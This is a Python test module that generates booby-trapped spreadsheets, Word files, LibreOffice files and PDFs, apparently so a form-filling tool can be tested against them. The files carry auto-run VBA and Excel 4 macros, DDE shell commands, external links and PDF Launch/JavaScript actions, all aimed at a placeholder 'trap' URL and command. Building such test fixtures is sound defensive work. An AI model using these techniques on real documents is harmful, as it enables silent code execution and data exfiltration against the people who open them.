"""Forms with macros, scripts, commands and links, all of which lead to the trap of the bench."""

import itertools
from collections.abc import Callable
from html import escape

from lxml import etree
from pikepdf import Array, Dictionary, Name, Pdf, String

from s2c_forms.demo.fill.word import find_all, name
from tests.corpus import pdf_changes, sheet_changes, word_changes
from tests.corpus.answers import ANSWERS
from tests.corpus.bases import base
from tests.corpus.bench import Bench
from tests.corpus.case import Make
from tests.corpus.trap import Trap
from tests.corpus.zips import rezipped
from tests.media.workbooks import repacked

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _relations(trap: Trap, *kinds: str) -> str:
    """Return relations to what stands elsewhere, one of each kind."""
    told = "".join(
        f'<Relationship Id="rId{number}" TargetMode="External" Target="{trap.url}"'
        f' Type="{_OFFICE}/{kind}"/>'
        for number, kind in enumerate(kinds, start=900)
    )
    return f'<Relationships xmlns="{_PACKAGE}">{told}</Relationships>'


def _basic(trap: Trap, when: str) -> str:
    return f'Sub {when}()\nOpen "{trap.made}" For Output As #1\nShell "{trap.command}"\nEnd Sub\n'


def sheet_macros(bench: Bench) -> bytes:
    """Return a workbook with a module of VBA, and a sheet of Excel 4 macros that opens with it."""
    run = f'EXEC("{bench.trap.command}")'
    macros = (
        f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
        f' xmlns="{_SHEET}"><sheetData><row r="1"><c r="A1"><f>{escape(run)}</f></c></row>'
        "</sheetData></xm:macrosheet>"
    )
    added = {
        "xl/vbaProject.bin": _basic(bench.trap, "Auto_Open"),
        "xl/macrosheets/sheet9.xml": macros,
    }
    opens = '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>'
    return repacked(
        bench.filled(".xlsx", ANSWERS).read_bytes(),
        added,
        workbook=lambda xml: xml.replace("</definedNames>", opens),
    )


def sheet_links(bench: Bench) -> bytes:
    """Return a workbook that would fetch a workbook, a table and the answer of a program."""
    trap = bench.trap
    dde = f'<ddeLink ddeService="sh" ddeTopic="{trap.command}"><ddeItems/></ddeLink>'
    book = f'<externalBook xmlns:r="{_OFFICE}" r:id="rId900"/>'
    web = (
        f'<connections xmlns="{_SHEET}"><connection id="1" type="4" refreshOnLoad="1">'
        f'<webPr url="{trap.url}"/></connection></connections>'
    )
    added = {
        "xl/externalLinks/externalLink1.xml": _link(book),
        "xl/externalLinks/externalLink2.xml": _link(dde),
        "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(trap, "externalLinkPath"),
        "xl/connections.xml": web,
    }
    formula = f"<f>'{trap.url}/[b.xlsx]Blad1'!A1+WEBSERVICE(\"{trap.url}\")</f><v>3</v>"
    made = sheet_changes.with_content("f08_score", formula)(bench)
    return repacked(made, added)


def _link(content: str) -> str:
    return f'<externalLink xmlns="{_SHEET}">{content}</externalLink>'


def word_macros(bench: Bench) -> bytes:
    """Return a document with a module of VBA."""
    code = _basic(bench.trap, "AutoOpen").encode()
    return word_changes.with_parts(added=[("word/vbaProject.bin", code)])(bench)


def word_links(bench: Bench) -> bytes:
    """Return a document whose template, fields and parts stand elsewhere."""
    trap = bench.trap
    fields = (
        f'INCLUDETEXT "{trap.url}"',
        f'INCLUDEPICTURE "{trap.url}"',
        f'DDEAUTO sh "{trap.command}"',
    )

    def add(root: etree._Element) -> None:
        line = find_all(root, ".//w:body/w:p")[-1]
        for field in fields:
            etree.SubElement(line, name("w:fldSimple")).set(name("w:instr"), field)

    relations = _relations(trap, "attachedTemplate", "subDocument", "aFChunk", "image", "frame")
    added = [("word/_rels/settings.xml.rels", relations.encode())]
    return rezipped(word_changes.changed(add)(bench), None, added)


def open_document(suffix: str) -> Make:
    """Return a file of LibreOffice with a macro that runs when it opens, and parts elsewhere."""

    def make(bench: Bench) -> bytes:
        trap = bench.trap
        links = (
            "http://www.w3.org/1999/xlink",
            "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
        )
        listener = (
            f'<script:event-listener xmlns:script="{links[1]}" xmlns:xlink="{links[0]}"'
            ' script:language="ooo:script" script:event-name="dom:load"'
            ' xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"'
            "/>"
        )
        picture = f'<draw:image xmlns:xlink="{links[0]}" xlink:href="{trap.url}"/>'
        basic = _basic(trap, "Main")

        def change(xml: bytes) -> bytes:
            text = xml.decode()
            scripts = f"<office:event-listeners>{listener}</office:event-listeners>"
            told = text.replace("<office:scripts/>", f"<office:scripts>{scripts}</office:scripts>")
            assert told != text
            end = "</office:body>"
            return told.replace(end, f"<draw:frame>{picture}</draw:frame>{end}").encode()

        added = [("Basic/Standard/M.xml", basic.encode())]
        return rezipped(base(suffix)(bench), {"content.xml": change}, added)

    return make


def _pdf(change: Callable[[Pdf, Trap], None]) -> Make:
    return lambda bench: pdf_changes.changed(lambda pdf: change(pdf, bench.trap))(bench)


def _scripts(pdf: Pdf, trap: Trap) -> None:
    """Add what a reader of PDFs runs when it opens a form, and where a field changes."""
    code = f"this.getField('f01_score').value = '3'; app.launchURL('{trap.url}');"
    action = Dictionary(S=Name.JavaScript, JS=String(code))
    pdf.Root.OpenAction = pdf.make_indirect(action)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("a"), action]))
    pdf_changes.fields_by_name(pdf)["f01_score"].AA = Dictionary(C=action, F=action)


def _actions(pdf: Pdf, trap: Trap) -> None:
    """Add actions that start a program, and that send and fetch answers."""
    place = Dictionary(FS=Name.URL, F=String(trap.url))
    actions = [
        Dictionary(S=Name.Launch, F=String("/bin/sh"), Unix=String(f"-c '{trap.command}'")),
        Dictionary(S=Name.ImportData, F=place),
        Dictionary(S=Name.SubmitForm, F=place),
        Dictionary(S=Name.GoToR, F=place, D=Array([0, Name.Fit])),
        Dictionary(S=Name.URI, URI=String(trap.url)),
    ]
    for action, after in itertools.pairwise(actions):
        action.Next = after
    pdf.Root.OpenAction = pdf.make_indirect(actions[0])


pdf_scripts, pdf_actions = _pdf(_scripts), _pdf(_actions)
